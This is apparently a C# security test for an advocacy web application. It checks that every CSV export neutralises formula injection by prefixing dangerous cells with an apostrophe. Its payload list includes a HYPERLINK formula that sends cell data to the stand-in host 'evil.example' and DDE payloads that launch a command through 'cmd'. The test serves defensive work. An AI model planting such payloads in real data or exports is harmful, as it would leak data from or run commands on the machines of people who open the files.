using System.Net;
using Child10.Advocacy.Tests.Infrastructure;
using Child10.Advocacy.Web.Features.Stakeholders.Import;
using Child10.Advocacy.Web.Infrastructure.Auth;
using Dapper;

namespace Child10.Advocacy.Tests.Security;

/// <summary>
/// CSV formula injection: names that a spreadsheet would run as formulas come out of every CSV export (found by
/// route or handler name) as text, prefixed with an apostrophe.
/// </summary>
[Collection(DatabaseGroup.Name)]
public sealed class CsvExportTests(TestDatabase database) : IAsyncLifetime
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    private TestApp app = null!;

    public async Task InitializeAsync()
    {
        await database.ResetAsync();
        app = await TestApp.StartAsync(database);
    }

    public async Task DisposeAsync() => await app.DisposeAsync();

    [Fact]
    public async Task EveryCsvExport_NeutralisesFormulas()
    {
        await using (var db = await database.DataSource.OpenConnectionAsync())
        {
            for (var i = 0; i < Formulas.Length; i++)
            {
                var org = await db.ExecuteScalarAsync<long>(
                    "insert into organisation (name, kind, notes, country_code) values (@name, 'ngo', @name, 'BE') returning id", new { name = Formulas[i] + " org" });
                await db.ExecuteAsync(
                    "insert into person (full_name, position, email, organisation_id, country_code) values (@name, @name, @email, @org, 'BE')",
                    new { name = Formulas[i], email = $"formula{i}@example.org", org });
            }
        }
        using var client = await app.SignedInClientAsync(database, Roles.Admin);
        var exports = (await PageHandlers.AllAsync(app.App))
            .Where(h => !h.IsWrite() && (h.Route.Contains("export", StringComparison.OrdinalIgnoreCase) || string.Equals(h.Handler?.Name, "Export", StringComparison.OrdinalIgnoreCase)))
            .ToList();
        var checkedCsv = 0;

        foreach (var export in exports)
        {
            using var response = await client.GetAsync(export.Url());
            if (response.StatusCode != HttpStatusCode.OK || response.Content.Headers.ContentType?.MediaType != "text/csv")
            {
                continue;
            }
            var table = CsvReader.Parse(await response.Content.ReadAsStringAsync());
            var cells = table.Header.Concat(table.Records.SelectMany(r => r.Fields)).ToList();
            var dangerous = cells.Where(c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' or '\r').ToList();
            Assert.True(dangerous.Count == 0, $"{export.Url()} has cells a spreadsheet would run: {string.Join(" | ", dangerous)}");
            Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
            checkedCsv++;
        }

        Assert.True(checkedCsv >= 2, $"Only {checkedCsv} CSV exports answered among {string.Join(", ", exports.Select(e => e.Url()))}");
    }
}
